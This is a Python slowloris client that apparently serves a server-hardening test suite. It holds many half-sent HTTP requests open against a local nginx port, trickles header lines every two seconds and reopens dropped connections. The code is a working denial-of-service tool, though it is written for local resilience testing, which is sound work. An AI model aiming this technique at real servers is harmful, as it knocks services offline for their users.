"""A slowloris client for test_hostile_http.py, run as its own process.

    slowloris.py PORT COUNT SECONDS

Holds COUNT connections to 127.0.0.1:PORT, each with half a request header
sent and a header line added every 2 s; a connection nginx closes is opened
again at once, as a real attacker would. Prints "open N reopened M" every
0.25 s, and "done" at the end. Exits after SECONDS, or when stdin closes.
"""

import errno
import os
import selectors
import socket
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: t\r\nUser-Agent: slowloris\r\n"
TRICKLE = b"X-a: b\r\n"


class Attack:
    def __init__(self, port, count):
        self.port, self.count = port, count
        self.sel = selectors.DefaultSelector()
        self.open = set()  # connected, half a request sent
        self.reopened = 0

    def connect(self):
        s = socket.socket()
        s.setblocking(False)
        err = s.connect_ex(("127.0.0.1", self.port))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            raise OSError(err, os.strerror(err))
        self.sel.register(s, selectors.EVENT_WRITE)

    def lost(self, s):
        self.sel.unregister(s)
        self.open.discard(s)
        s.close()
        self.reopened += 1
        self.connect()

    def event(self, s, mask):
        if mask & selectors.EVENT_WRITE:  # a connect finished
            try:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    raise ConnectionError
                s.send(HEAD)
            except OSError:
                self.lost(s)
                return
            self.sel.modify(s, selectors.EVENT_READ)
            self.open.add(s)
        else:  # nginx closed it (or answered, which it must not)
            self.lost(s)

    def trickle(self):
        for s in list(self.open):
            try:
                s.send(TRICKLE)
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                self.lost(s)


def main(port, count, seconds):
    attack = Attack(port, count)
    for _ in range(count):
        attack.connect()
    os.set_blocking(sys.stdin.fileno(), False)
    attack.sel.register(sys.stdin, selectors.EVENT_READ)
    end = time.monotonic() + seconds
    next_report = next_trickle = time.monotonic()
    while time.monotonic() < end:
        for key, mask in attack.sel.select(timeout=0.05):
            if key.fileobj is sys.stdin:
                if not sys.stdin.buffer.read():
                    return
                continue
            attack.event(key.fileobj, mask)
        now = time.monotonic()
        if now >= next_trickle:
            attack.trickle()
            next_trickle = now + 2
        if now >= next_report:
            print(f"open {len(attack.open)} reopened {attack.reopened}", flush=True)
            next_report = now + 0.25
    print("done", flush=True)


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]))
